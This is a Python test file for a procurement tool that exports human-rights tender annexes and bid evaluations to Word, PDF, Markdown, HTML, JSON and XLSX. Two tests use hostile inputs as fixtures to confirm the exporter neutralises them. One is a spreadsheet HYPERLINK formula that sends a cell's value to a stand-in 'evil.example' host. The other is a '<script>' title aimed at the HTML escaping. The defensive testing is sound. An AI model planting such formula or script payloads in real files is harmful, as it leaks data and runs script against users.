"""The tender annex and the bid evaluation as documents: Word with real headings and tables (that LibreOffice
opens), Markdown, HTML, JSON and an XLSX report whose texts stay texts (OCDS: test_ocds.py)."""

from __future__ import annotations

import io
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from docx import Document
from openpyxl import load_workbook
from pypdf import PdfReader

from hrdd.domain.tender import build_tender, evaluate_bids, get_tender_framework
from hrdd.tenders import documents

REPO = Path(__file__).resolve().parents[2]
DEMO_BIDS = REPO / "hrdd" / "demo_data" / "bids-scenario-2.json"
ALL_CRITERIA = ("LABEL", "SC1", "SC2", "AC1", "AC2", "AC3", "AC4", "AC6", "AC7", "CC1", "CC2", "CC3", "CC4")
SCENARIOS = {
    1: ("LABEL", "AC1", "AC2", "CC1"),
    2: ("LABEL", "SC1", "AC3", "AC4", "CC2", "CC3"),
    3: ("LABEL", "SC1", "SC2", "AC6", "AC7", "CC2", "CC3", "CC4"),
}
AWARDS = {1: ("AC1", "AC2"), 2: ("AC3", "AC4"), 3: ("AC6", "AC7")}
SELECTION = {1: (), 2: ("SC1",), 3: ("SC1", "SC2")}


def annex(scenario, **kwargs):
    return build_tender(scenario=scenario, framework=get_tender_framework(), **kwargs)


def demo_request():
    return json.loads(DEMO_BIDS.read_text(encoding="utf-8"))


def demo_evaluation(request=None):
    return evaluate_bids(request or demo_request(), get_tender_framework())


def docx_text(document) -> str:
    parts = [p.text for p in document.paragraphs]
    parts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join(parts)


def ids_in(text: str) -> set[str]:
    """The criterion ids a text names, as whole words."""
    return {c for c in ALL_CRITERIA if re.search(rf"\b{c}\b", text)}


# DOCX


@pytest.mark.parametrize("scenario", [1, 2, 3])
def test_the_annex_docx_has_real_headings_for_every_criterion_and_tables(scenario):
    # when
    document = Document(io.BytesIO(documents.annex_docx(annex(scenario), title="Notebooks 2027")))

    # then
    headings = {
        level: [p.text for p in document.paragraphs if p.style.name == f"Heading {level}"]
        for level in (1, 2, 3)
    }
    assert headings[1] == ["Annex 1: Human-rights requirements"]
    assert "Award criteria" in headings[2]
    assert "Contract clauses (performance conditions)" in headings[2]
    assert ("Selection criteria" in headings[2]) is bool(SELECTION[scenario])
    # the criteria, then the response form's tables
    assert [h.split()[0] for h in headings[3]][: len(SCENARIOS[scenario])] == list(SCENARIOS[scenario])
    for criterion in AWARDS[scenario]:
        assert any(h.startswith(criterion) and "up to 20 points" in h for h in headings[3])
    # the weighting: price and each award criterion's maximum points, and their total
    [weighting] = [
        [[c.text for c in row.cells] for row in table.rows]
        for table in document.tables
        if table.rows[0].cells[0].text == "Criterion"
    ]
    assert weighting[0] == ["Criterion", "Maximum points"]
    assert [row[0].split()[0] for row in weighting[1:]] == ["Price", *AWARDS[scenario], "Total"]
    assert [row[1] for row in weighting[1:]] == ["60", "20", "20", "100"]
    text = docx_text(document)
    assert "Legal basis" in text
    assert "Directive 2014/24/EU Article 67" in text
    assert ids_in(text) == set(SCENARIOS[scenario])


def test_the_months_of_cc1_appear_in_the_docx():
    # when
    document = Document(io.BytesIO(documents.annex_docx(annex(1, months=7))))

    # then
    text = docx_text(document)
    assert "no later than 7 months after the award" in text
    assert "(7 months after award, and before delivery)" in text  # the timeliness KPI
    assert "{months}" not in text


def test_without_the_label_the_docx_has_no_label_section():
    # when
    document = Document(io.BytesIO(documents.annex_docx(annex(2, require_label=False))))

    # then
    headings = [p.text for p in document.paragraphs if p.style.name.startswith("Heading")]
    assert "Baseline: certified products" not in headings
    assert not any(h.startswith("LABEL") for h in headings)


def test_the_evaluation_docx_has_the_ranking_and_each_bid_with_its_reasons():
    # when
    document = Document(io.BytesIO(documents.evaluation_docx(demo_evaluation(), title="Evaluation")))

    # then
    headings = [p.text for p in document.paragraphs if p.style.name == "Heading 2"]
    assert headings == [
        "Proposed award",
        "Method",
        "Ranking",
        "Lumen Computers",
        "Civic IT Reseller",
        "Budget Office Supplies",
        "Nordbyte Systems",
        "Sign-off",
    ]
    ranking = [[c.text for c in row.cells] for row in document.tables[1].rows]  # after the facts
    assert ranking[0] == ["Rank", "Bidder", "Price (EUR)", "Price points", "AC3", "AC4", "Total"]
    assert [row[:2] for row in ranking[1:]] == [
        ["1", "Lumen Computers"],
        ["2", "Civic IT Reseller"],
        ["not admitted", "Budget Office Supplies"],
        ["not admitted", "Nordbyte Systems"],
    ]
    assert ranking[3][2] == "255,000.00 ⚠"  # possibly abnormally low
    text = docx_text(document)
    assert "SC1 not met" in text
    assert "LABEL not met: no label given" in text
    assert "possibly abnormally low" in text


# PDF through LibreOffice


def _libreoffice() -> str | None:
    return shutil.which("libreoffice") or shutil.which("soffice")


@pytest.fixture(scope="module")
def pdfs(tmp_path_factory):
    """The three annexes and an evaluation report, converted to PDF by LibreOffice in one run."""
    office = _libreoffice()
    if office is None:
        pytest.skip("LibreOffice is not installed (no libreoffice or soffice on PATH)")
    tmp = tmp_path_factory.mktemp("office")
    sources = []
    for scenario in (1, 2, 3):
        path = tmp / f"annex-{scenario}.docx"
        path.write_bytes(documents.annex_docx(annex(scenario)))
        sources.append(path)
    evaluation = tmp / "evaluation.docx"
    evaluation.write_bytes(documents.evaluation_docx(demo_evaluation()))
    sources.append(evaluation)
    result = subprocess.run(  # noqa: S603 - LibreOffice on our own files
        [
            office,
            f"-env:UserInstallation=file://{tmp}/lo",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp),
            *map(str, sources),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr[-2000:]
    return tmp


@pytest.mark.parametrize(
    ("name", "criterion"),
    [("annex-1", "AC1"), ("annex-2", "SC1"), ("annex-3", "AC7"), ("evaluation", "AC3")],
)
def test_libreoffice_converts_the_docx_to_a_readable_pdf(pdfs, name, criterion):
    # given
    pdf = pdfs / f"{name}.pdf"
    assert pdf.is_file(), sorted(p.name for p in pdfs.iterdir())

    # when
    reader = PdfReader(pdf)

    # then
    assert len(reader.pages) >= 1
    text = "\n".join(page.extract_text() or "" for page in reader.pages)
    assert criterion in text


# Markdown, HTML, JSON


@pytest.mark.parametrize("scenario", [1, 2, 3])
@pytest.mark.parametrize("fmt", ["markdown", "html", "json"])
def test_each_text_format_names_every_criterion_of_its_scenario_and_no_other(scenario, fmt):
    # given
    built = annex(scenario)

    # when
    text = {
        "markdown": lambda: documents.annex_markdown(built, title="Notebooks"),
        "html": lambda: documents.annex_html(built, title="Notebooks"),
        "json": lambda: documents.annex_json(built),
    }[fmt]()

    # then
    assert ids_in(text) == set(SCENARIOS[scenario])


def test_scenario_1_has_no_selection_criterion():
    # when
    markdown = documents.annex_markdown(annex(1))

    # then
    assert "SC1" not in markdown
    assert "Selection criteria" not in markdown


def test_the_markdown_has_a_heading_per_criterion_with_its_weight():
    # when
    markdown = documents.annex_markdown(annex(2, weights={"AC3": 25}), title="Notebooks 2027")

    # then
    lines = markdown.splitlines()
    assert lines[0] == "# Annex 1: Human-rights requirements"
    assert "**Tender:** Notebooks 2027  " in lines
    headings = [line for line in lines if line.startswith("### ")]
    assert [h.split()[1] for h in headings][: len(SCENARIOS[2])] == list(SCENARIOS[2])
    assert "### AC3 Supply-chain transparency: products — up to 25 points" in headings
    assert "### AC4 Action plan — up to 20 points" in headings
    assert "Price points = price weight × lowest admitted price ÷ the bid's price" in markdown


def test_the_html_is_a_standalone_page_that_escapes_the_title():
    # when
    html = documents.annex_html(annex(3), title="<script>alert(1)</script>")

    # then
    assert html.lstrip().startswith("<!doctype html>")
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;" in html
    for criterion in SCENARIOS[3]:
        assert f'id="criterion-{criterion}"' in html


@pytest.mark.parametrize("scenario", [1, 2, 3])
def test_the_json_lists_the_items_weights_and_parameters(scenario):
    # when
    data = json.loads(documents.annex_json(annex(scenario, months=5)))

    # then
    assert data["scenario"] == scenario
    assert data["months"] == 5
    assert [i["id"] for i in data["items"]] == list(SCENARIOS[scenario])
    assert data["weights"] == {"price": 60.0} | dict.fromkeys(AWARDS[scenario], 20.0)
    assert all(i["legal_basis"] for i in data["items"])


# XLSX


def test_the_evaluation_xlsx_has_bids_reasons_and_weights():
    # when
    workbook = load_workbook(io.BytesIO(documents.evaluation_xlsx(demo_evaluation())))

    # then
    assert workbook.sheetnames == ["Bids", "Reasons", "Weights"]
    rows = list(workbook["Bids"].iter_rows(values_only=True))
    header, bids = rows[0], rows[1:]
    assert header[:6] == ("rank", "bidder", "price", "admitted", "total", "abnormally low")
    assert len(bids) == 4
    assert [(b[0], b[1]) for b in bids] == [
        (1, "Lumen Computers"),
        (2, "Civic IT Reseller"),
        (None, "Budget Office Supplies"),
        (None, "Nordbyte Systems"),
    ]
    budget = dict(zip(header, bids[2], strict=True))
    assert budget["admitted"] is False
    assert budget["abnormally low"] is True
    reasons = list(workbook["Reasons"].iter_rows(values_only=True))
    assert reasons[0] == ("bidder", "criterion", "reason")
    assert {r[0] for r in reasons[1:]} == {
        "Lumen Computers",
        "Civic IT Reseller",
        "Budget Office Supplies",
        "Nordbyte Systems",
    }
    assert any(r[1] == "AC4" and "action(s) with a justification" in r[2] for r in reasons[1:])
    weights = {r[0]: r[1] for r in workbook["Weights"].iter_rows(min_row=2, values_only=True) if r[0]}
    assert weights["price"] == 60
    assert weights["AC3"] == 20
    assert weights["AC4"] == 20
    assert weights["scenario"] == 2


def test_a_bidder_named_like_a_formula_stays_text_in_the_xlsx():
    # given
    request = demo_request()
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    request["bids"][0]["bidder"] = formula

    # when
    workbook = load_workbook(io.BytesIO(documents.evaluation_xlsx(demo_evaluation(request))))

    # then
    cells = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == formula
    ]
    assert len(cells) >= 2  # in Bids and in Reasons
    assert all(cell.data_type == "s" for cell in cells)


def test_prices_of_a_million_and_more_are_shown_exactly_in_the_evaluation_docx():
    # given: ICT tenders often exceed a million
    request = {
        "scenario": 1,
        "weights": {"price": 60, "AC1": 20, "AC2": 20},
        "require_label": False,
        "bids": [{"bidder": "Alpha", "price": 1234567}, {"bidder": "Beta", "price": 1300000}],
    }

    # when
    document = Document(io.BytesIO(documents.evaluation_docx(demo_evaluation(request))))

    # then: neither rounded to six digits nor in scientific notation
    ranking = [[c.text for c in row.cells] for row in document.tables[1].rows]
    assert [row[:3] for row in ranking[1:]] == [["1", "Alpha", "1,234,567.00"], ["2", "Beta", "1,300,000.00"]]
    reasons = {row.cells[0].text: row.cells[4].text for row in document.tables[2].rows}
    assert (
        reasons["Price"] == "60 × lowest admitted price EUR 1,234,567.00 ÷ this bid's price EUR 1,234,567.00."
    )
